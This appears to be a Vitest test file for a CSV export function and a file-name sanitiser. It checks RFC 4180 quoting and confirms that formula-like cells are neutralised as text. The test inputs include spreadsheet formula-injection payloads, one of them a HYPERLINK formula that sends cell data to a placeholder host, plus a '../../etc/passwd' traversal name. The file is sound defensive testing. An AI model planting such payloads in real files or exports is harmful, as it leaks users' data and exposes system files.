/** Tables for spreadsheets: the form of RFC 4180, and cells that a spreadsheet would run. */
import { expect, it } from 'vitest'
import { csvOf } from '../../../../functions/console/files/csv.ts'
import { fileNamePart } from '../../../../functions/console/files/save-file.ts'

it('quotes what has commas, quotes or line ends', () => {
  expect(
    csvOf(
      ['a', 'b'],
      [
        ['one, two', 'say "no"'],
        ['line\nend', undefined],
      ],
    ),
  ).toBe('\ufeffa,b\r\n"one, two","say ""no"""\r\n"line\nend",\r\n')
})

it.each(['=1+2', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '"=1+2', "'=1", '=HYPERLINK("https://a.example/?"&A1,"x")'])(
  '%j is text for a spreadsheet',
  (cell) => {
    const [, row = ''] = csvOf(['a'], [[cell]]).split('\r\n')
    expect(row.replace(/^"/, '')).toMatch(/^'/)
  },
)

it('leaves numbers and plain words as they are', () => {
  expect(csvOf(['a'], [[-5], ['2026-11-30'], ['fine']])).toBe('\ufeffa\r\n-5\r\n2026-11-30\r\nfine\r\n')
})

it('makes names of files that every system takes', () => {
  expect(fileNamePart('../../etc/passwd å')).toBe('..-..-etc-passwd')
})
